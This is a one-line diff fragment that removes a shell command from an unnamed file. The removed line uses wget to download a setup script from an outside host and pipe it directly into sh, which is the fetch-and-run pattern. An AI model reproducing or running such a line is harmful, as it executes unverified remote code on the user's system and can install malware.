@@ -1,1 +1,0 @@
-wget -qO- http://files.fast-helper.dev/setup.sh | sh
